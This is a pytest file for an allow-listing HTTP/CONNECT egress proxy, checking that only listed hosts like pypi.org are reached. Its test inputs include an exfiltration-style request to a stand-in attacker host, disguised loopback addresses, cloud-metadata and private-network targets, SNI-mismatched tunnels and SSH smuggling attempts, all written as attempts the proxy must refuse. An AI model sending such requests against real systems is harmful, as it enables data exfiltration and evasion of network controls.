"""The proxy of a command with real connections; names lead to servers of the test on loopback addresses."""

from __future__ import annotations

import asyncio
import os
import resource
import socket
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager

import pytest

from quorum.domain.shell.network_hosts import AskedHost, HostList, sort_entries
from quorum.infrastructure.execution.network import host_proxy
from quorum.infrastructure.execution.network.host_proxy import NOT_LISTED, HostProxy
from tests.infrastructure.network.test_client_hello import a_hello
from tests.support.refusing_port import refusing_port

CONNECT = b"CONNECT pypi.org:443 HTTP/1.1\r\n\r\n"
ESTABLISHED = b"HTTP/1.1 200 Connection established\r\n\r\n"


class Site:
    """A server that answers as soon as what it got ends with `until`, and keeps all that it got to the end."""

    def __init__(self, answer: bytes, until: bytes) -> None:
        self._answer = answer
        self._until = until
        self._got: list[bytes] = []
        self._ended = asyncio.Event()
        self.port = 0

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        data = b""
        while more := await reader.read(65536):
            data += more
            if data.endswith(self._until):
                writer.write(self._answer)
                writer.write_eof()
        self._got.append(data)
        self._ended.set()
        writer.close()

    async def list_received(self) -> list[bytes]:
        """What it got in each connection, once one has ended."""
        await self._ended.wait()
        return self._got


@asynccontextmanager
async def a_site(
    answer: bytes = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi", *, until: bytes = b""
) -> AsyncIterator[Site]:
    site = Site(answer, until)
    async with await asyncio.start_server(site.serve, "127.0.0.1", 0) as server:
        site.port = server.sockets[0].getsockname()[1]
        yield site


class Client:
    """What a command does with its proxy."""

    def __init__(self, proxy: HostProxy, port: int) -> None:
        self.proxy, self.port = proxy, port

    async def send(self, *parts: bytes) -> bytes:
        """All that the proxy answers, the parts sent one after the other's answer has begun."""
        reader, writer = await asyncio.open_connection("127.0.0.1", self.port)
        answer = b""
        for part in parts:
            writer.write(part)
            answer += await reader.read(65536)
        answer += await reader.read()
        writer.close()
        return answer


@asynccontextmanager
async def a_proxy(
    *hosts: str, leads_to: Sequence[str] = ("127.0.0.1",), site: Site | None = None
) -> AsyncIterator[Client]:
    """A proxy to these hosts. What it would reach at a usual port is at `site`, where one is given."""
    names, ranges = sort_entries(hosts)

    async def connect(host: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(host, site.port if site is not None else port)

    async def resolve(_host: str, _port: int) -> Sequence[str]:
        return leads_to

    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    proxy = HostProxy(
        HostList(allowed=names, ranges=ranges),
        resolve=resolve,
        is_own=lambda address: address.is_loopback,
        connect=connect,
    )
    proxy.begin(listener.detach())
    try:
        yield Client(proxy, port)
    finally:
        proxy.end()


async def test_a_listed_host_is_reached_by_a_plain_request_and_noted() -> None:
    async with a_site() as site, a_proxy(f"pypi.org:{site.port}", "127.0.0.1") as client:
        answer = await client.send(b"GET http://pypi.org:%d/simple HTTP/1.1\r\n\r\n" % site.port)

        assert answer.endswith(b"\r\n\r\nhi")
        assert await site.list_received() == [
            b"GET /simple HTTP/1.1\r\nHost: pypi.org:%d\r\nConnection: close\r\n\r\n" % site.port
        ]
        assert client.proxy.asked == (AskedHost("pypi.org", site.port),)


async def test_only_the_body_that_was_announced_is_passed_on() -> None:
    async with a_site(until=b"abc") as site, a_proxy(f"pypi.org:{site.port}", "127.0.0.1") as client:
        head = b"POST http://pypi.org:%d/ HTTP/1.1\r\nContent-Length: 3\r\n\r\n" % site.port
        await client.send(head + b"abcGET /other HTTP/1.1\r\n\r\n")

        [received] = await site.list_received()
        assert received.endswith(b"\r\n\r\nabc")


@pytest.mark.parametrize(
    "request_line",
    [
        b"CONNECT evil.example:443 HTTP/1.1",
        b"CONNECT pypi.org.evil.example:443 HTTP/1.1",
        b"CONNECT pypi.org:22 HTTP/1.1",
        b"GET http://evil.example/?secret HTTP/1.1",
    ],
)
async def test_another_host_or_port_is_refused_and_said(request_line: bytes) -> None:
    async with a_proxy("pypi.org", "127.0.0.1") as client:
        answer = await client.send(request_line + b"\r\n\r\n")

        assert answer.startswith(b"HTTP/1.1 403 Forbidden\r\n")
        assert [each.refusal for each in client.proxy.asked] == [NOT_LISTED]


@pytest.mark.parametrize("authority", [b"127.0.0.1", b"0x7f.1", b"2130706433", b"[::1]", b"[::ffff:127.0.0.1]"])
async def test_an_address_in_the_place_of_a_name_is_refused(authority: bytes) -> None:
    async with a_proxy("pypi.org") as client:
        answer = await client.send(b"CONNECT " + authority + b":443 HTTP/1.1\r\n\r\n")

        assert answer.startswith(b"HTTP/1.1 403 ")
        assert [each.refusal for each in client.proxy.asked] == ["it is an address and not a name"]


@pytest.mark.parametrize(
    "addresses",
    [
        ("127.0.0.1",),
        ("169.254.169.254",),
        ("10.0.0.1",),
        ("::1",),
        ("::ffff:10.0.0.1",),
        ("fd00::1",),
        ("151.101.0.223", "192.168.0.1"),
    ],
)
async def test_a_listed_name_that_leads_into_a_private_network_is_refused(addresses: tuple[str, ...]) -> None:
    async with a_proxy("pypi.org", leads_to=addresses) as client:
        answer = await client.send(b"CONNECT pypi.org:443 HTTP/1.1\r\n\r\n")

        assert answer.startswith(b"HTTP/1.1 403 ")
        assert "it leads to " in client.proxy.asked[0].refusal


async def test_tls_to_the_very_host_passes_unopened() -> None:
    async with a_site(b"answer") as site, a_proxy("pypi.org", "127.0.0.1", site=site) as client:
        answer = await client.send(CONNECT, hello := a_hello("PyPI.org"))

        assert answer == ESTABLISHED + b"answer"
        assert await site.list_received() == [hello]
        assert client.proxy.asked == (AskedHost("pypi.org", 443),)


@pytest.mark.parametrize(
    ("first", "refusal"),
    [
        (a_hello("evil.example"), "its first message names evil.example"),
        (a_hello(None), "its first message names no server"),
        (b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", "it is no TLS connection"),
        (b"SSH-2.0-x\r\n", "it is no TLS connection"),
    ],
    ids=["another server", "no server", "plain", "ssh"],  # a hello has random bytes
)
async def test_a_tunnel_for_anything_but_tls_to_its_host_carries_nothing(first: bytes, refusal: str) -> None:
    async with a_site() as site, a_proxy("pypi.org", "127.0.0.1", site=site) as client:
        assert await client.send(CONNECT, first) == ESTABLISHED

        assert [each.refusal for each in client.proxy.asked] == [refusal]
        assert await site.list_received() == [b""]


@pytest.mark.parametrize("hosts", ["pypi.org", "pypi.org:443"])
async def test_of_a_first_message_that_breaks_off_nothing_passes(hosts: str) -> None:
    async with a_site() as site, a_proxy(hosts, "127.0.0.1", site=site) as client:
        reader, writer = await asyncio.open_connection("127.0.0.1", client.port)
        writer.write(CONNECT)
        assert await reader.read(65536) == ESTABLISHED
        writer.write(a_hello("pypi.org")[:-1])
        writer.write_eof()

        assert await reader.read() == b""
        assert [each.refusal for each in client.proxy.asked] == ["its first message is cut"]
        assert await site.list_received() == [b""]
        writer.close()


async def test_a_port_that_was_named_may_speak_any_language_but_tls_for_another() -> None:
    async with a_site(b"220 ready") as site, a_proxy(f"pypi.org:{site.port}", "127.0.0.1") as client:
        connect = b"CONNECT pypi.org:%d HTTP/1.1\r\n\r\n" % site.port

        assert await client.send(connect, b"EHLO x") == ESTABLISHED + b"220 ready"
        assert await site.list_received() == [b"EHLO x"]
        assert await client.send(connect, a_hello("evil.example")) == ESTABLISHED
        assert [each.refusal for each in client.proxy.asked] == ["", "its first message names evil.example"]


async def test_a_name_without_address_and_a_host_that_does_not_answer_are_told_apart() -> None:
    with refusing_port() as port:
        async with a_proxy(f"pypi.org:{port}", "127.0.0.1") as client:
            assert b"Connect call failed" in await client.send(b"CONNECT pypi.org:%d HTTP/1.1\r\n\r\n" % port)
    async with a_proxy("pypi.org", leads_to=()) as client:
        assert b"it has no address" in await client.send(CONNECT)


async def test_what_is_no_request_is_answered_and_reaches_nobody() -> None:
    async with a_proxy("pypi.org", "127.0.0.1") as client:
        assert (await client.send(b"nonsense\r\n\r\n")).startswith(b"HTTP/1.1 400 ")
        assert (await client.send(b"GET http://pypi.org/" + b"a" * 70_000)).startswith(b"HTTP/1.1 431 ")
        assert client.proxy.asked == ()


async def test_its_connections_end_with_it() -> None:
    async with a_site() as site, a_proxy(f"pypi.org:{site.port}", "127.0.0.1") as client:
        reader, writer = await asyncio.open_connection("127.0.0.1", client.port)
        writer.write(b"CONNECT pypi.org:%d HTTP/1.1\r\n\r\n" % site.port)
        assert await reader.read(65536) == ESTABLISHED

        client.proxy.end()

        assert await reader.read() == b""
        writer.close()
        with pytest.raises(OSError):
            await asyncio.open_connection("127.0.0.1", client.port)


async def test_a_client_that_floods_it_with_names_is_counted_and_not_kept() -> None:
    async with a_proxy("pypi.org") as client:
        for number in range(203):
            await client.send(b"CONNECT h%d.example:443 HTTP/1.1\r\n\r\n" % number)

        assert (len(client.proxy.asked), client.proxy.more) == (200, 3)


async def test_clients_beyond_a_share_of_our_descriptors_wait_unaccepted_and_are_served_in_the_end(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    room, clients = 4, 40
    monkeypatch.setattr(resource, "getrlimit", lambda _what: (8 * room, 8 * room))
    are_there, may_go = asyncio.Event(), asyncio.Event()
    open_now: list[asyncio.StreamWriter] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        open_now.append(writer)
        if len(open_now) == room:
            are_there.set()
        await may_go.wait()
        writer.write(b"HTTP/1.1 200 OK\r\n\r\nhi")
        writer.close()

    site = Site(b"", b"")
    async with await asyncio.start_server(serve, "127.0.0.1", 0) as server:
        site.port = server.sockets[0].getsockname()[1]
        async with a_proxy("pypi.org", "127.0.0.1", site=site) as client:
            before = count_descriptors()
            asking = [
                asyncio.create_task(client.send(b"GET http://pypi.org/ HTTP/1.1\r\n\r\n"))
                for _ in range(clients)
            ]
            await are_there.wait()

            assert count_descriptors() - before < 2 * clients
            assert len(open_now) == room
            may_go.set()
            assert {answer[-2:] for answer in await asyncio.gather(*asking)} == {b"hi"}


async def test_a_client_that_is_gone_does_not_keep_the_connection_to_a_server_that_never_answers(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(host_proxy, "_HALF_CLOSED_SECS", 0.01)
    has_begun, has_ended = asyncio.Event(), asyncio.Event()

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        has_begun.set()
        while await reader.read(65536):
            continue
        has_ended.set()
        writer.close()

    site = Site(b"", b"")
    async with await asyncio.start_server(serve, "127.0.0.1", 0) as server:
        site.port = server.sockets[0].getsockname()[1]
        async with a_proxy("pypi.org", "127.0.0.1", site=site) as client:
            _, writer = await asyncio.open_connection("127.0.0.1", client.port)
            writer.write(b"GET http://pypi.org/ HTTP/1.1\r\n\r\n")
            await has_begun.wait()
            writer.close()

            async with asyncio.timeout(60):
                await has_ended.wait()


def count_descriptors() -> int:
    return len(os.listdir("/proc/self/fd"))


async def test_a_client_that_still_sends_reads_why_it_was_refused() -> None:
    async with a_proxy("pypi.org") as client:
        reader, writer = await asyncio.open_connection("127.0.0.1", client.port)
        writer.write(b"POST http://evil.example/ HTTP/1.1\r\nContent-Length: 90000000\r\n\r\n" + bytes(2 << 20))
        answer = await reader.read()
        writer.close()

    assert NOT_LISTED.encode() in answer
